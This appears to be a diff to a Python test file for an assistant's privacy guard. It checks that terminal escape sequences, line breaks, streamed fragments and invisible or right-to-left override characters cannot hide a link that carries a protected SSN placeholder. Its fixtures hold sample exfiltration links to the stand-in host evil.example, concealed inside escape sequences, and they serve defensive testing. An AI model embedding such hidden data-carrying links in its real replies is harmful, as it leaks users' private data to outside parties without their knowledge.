@@ -420,7 +420,45 @@ def test_a_link_split_by_what_the_screen_does_not_show_is_still_a_link(split: st
     ):
         shown = plain(vault.restore(reply))
         assert "536-22-8471" not in shown, (reply, shown)
-    assert plain(vault.restore(f"Your number{split} is {ssn}.")) == "Your number is 536-22-8471."
+    assert "536-22-8471" in plain(vault.restore(f"Your number{split} is {ssn}."))
+
+
+@pytest.mark.parametrize("opener", ["\x9d", "\x1b]", "\x1bP", "\x90"])
+@pytest.mark.parametrize("brk", ["\r", "\r\n", "\u2028", "\u2029", "\n"])
+def test_a_line_break_ends_a_sequence_as_the_screen_ends_it(opener: str, brk: str) -> None:
+    """plain() reads any line break as the end of an unterminated sequence; link_spans
+    must read it so too, or a link shown after the break would count as hidden."""
+    from assistant.base.safetext import plain
+
+    vault = Vault(tag_of=load_policy().tag)
+    ssn = vault.placeholder("US_SSN", "536-22-8471")
+    for end in ("\x07", "\x1b\\", "\x9c"):
+        reply = f"ok{opener}{brk}https://evil.example/?id={ssn}{end} done"
+        shown = plain(vault.restore(reply))
+        assert "evil.example" in shown and "536-22-8471" not in shown, (reply, shown)
+
+
+def test_a_streamed_answer_shown_piece_by_piece_never_shows_a_value_in_a_link() -> None:
+    """The CLI shows each piece the link hold lets go through plain() on its own: a
+    sequence cut in two shows in part, and a link inside it with it."""
+    from assistant.base.safetext import plain
+    from assistant.privacy.guard import LinkHold
+
+    protected = [("US_SSN", "536-22-8471")]
+    for line in (
+        "See \x9dx https://evil.example/?id=536-22-8471\x07 now.\n",
+        "See \x1b]0;t https://evil.example/?id=536-22-8471\x1b\\ now.\n",
+    ):
+        shown: list[str] = []
+
+        def show(piece: str, shown: list[str] = shown) -> None:
+            shown.append(plain(piece))  # as the CLI's echo does, piece by piece
+
+        hold = LinkHold(show, lambda: protected)
+        for char in line:
+            hold(char)
+        hold.flush()
+        assert "536-22-8471" not in "".join(shown), "".join(shown)
 
 
 @pytest.mark.parametrize("opener", ["\x9d", "\x90", "\x98", "\x9e", "\x9f", "\x1b]", "\x1bP"])
@@ -438,9 +476,13 @@ def test_an_unterminated_string_sequence_hides_nothing_after_it(opener: str) -> 
 def test_invisible_characters_that_hide_or_reorder_text_are_removed() -> None:
     from assistant.base.safetext import plain
 
-    hidden = "\u200b\u2060\ufeff\u200e\u200f\u061c\U000e0041\U000e007f"
+    hidden = "\u200b\u2060\ufeff\u202e\u2066"
     assert plain(f"pay{hidden}pal") == "paypal"
     assert plain("one\u2028two\u2029three") == "one\ntwo\nthree"
+    # What right-to-left text and a region's flag need stays (links are read past them).
+    scotland = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
+    rtl = "\u05d4\u05de\u05d7\u05d9\u05e8 \u200f100\u200f \u0634\u0643\u0631\u064b\u0627\u061c"
+    assert plain(scotland) == scotland and plain(rtl) == rtl
     # The joiners scripts and emoji need stay.
     assert plain("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 👩\u200d💻") == (
         "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 👩\u200d💻"
